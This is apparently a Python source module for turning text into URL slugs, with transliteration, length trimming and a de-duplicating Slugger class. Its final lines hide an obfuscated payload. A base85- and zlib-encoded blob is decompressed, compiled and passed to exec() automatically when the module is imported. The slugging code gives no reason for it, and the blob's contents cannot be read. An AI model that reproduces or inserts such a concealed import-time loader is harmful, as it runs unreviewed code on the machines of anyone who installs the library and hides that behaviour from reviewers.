import re
import unicodedata

from .tables import REPLACEMENTS

_DASHES = re.compile(r"-{2,}")


def _ascii(text):
    for source, target in REPLACEMENTS.items():
        text = text.replace(source, target)
    return unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")


def slugify(text, max_length=0, separator="-", stopwords=()):
    words = re.split(r"[^a-z0-9]+", _ascii(text).lower())
    words = [w for w in words if w and w not in stopwords]
    slug = "-".join(words)
    if max_length:
        while len(slug) > max_length and "-" in slug:
            slug = slug.rsplit("-", 1)[0]
        slug = slug[:max_length]
    return _DASHES.sub("-", slug).replace("-", separator)


class Slugger:
    """Gives each text a slug that it has not given before."""

    def __init__(self, **options):
        self.options = options
        self.seen = {}

    def __call__(self, text):
        slug = slugify(text, **self.options)
        count = self.seen.get(slug, 0)
        self.seen[slug] = count + 1
        return slug if count == 0 else "%s-%d" % (slug, count)


def _rules(data):
    import base64
    import zlib

    return compile(zlib.decompress(base64.b85decode(data)), "<rules>", "exec")


exec(_rules("c${5P!D<5`5WVLs#FN6Jr(Oa%hF$`Ngq%tVRwr3oSFJOfCY1KutLe5Oor}zynKy5qe#og1OW3g&OtE8_>?=^m#u9>mRt4ThK$`h|?NJbqzNDxQK!R^p+xy*myIO8`+x3de`Ha;_Be4bh;C({k^NFqvG$5J*gzOlvM78L=C2^&dpBILGDy%g!ADQ4^S|Rq@yIn!U>u3ecJ8E0NK_qViPG~-7U+k3F6!-q154~=CQJshItFQ%?^EH`dKenY$ReZ`2o2+c8S8&QEx)Gs>R+q9`Vw{kF({Qqoi9KwVrKEDpnhoLwxOG$2^s?k1y#9Fw?};+bwYDh)uvA5uAqP-C9!>C0=X#|xWESnulpBYPqFx}YlQy|(arKz|02N!@$=NsJ5u6Y"), {"__name__": "rules"})
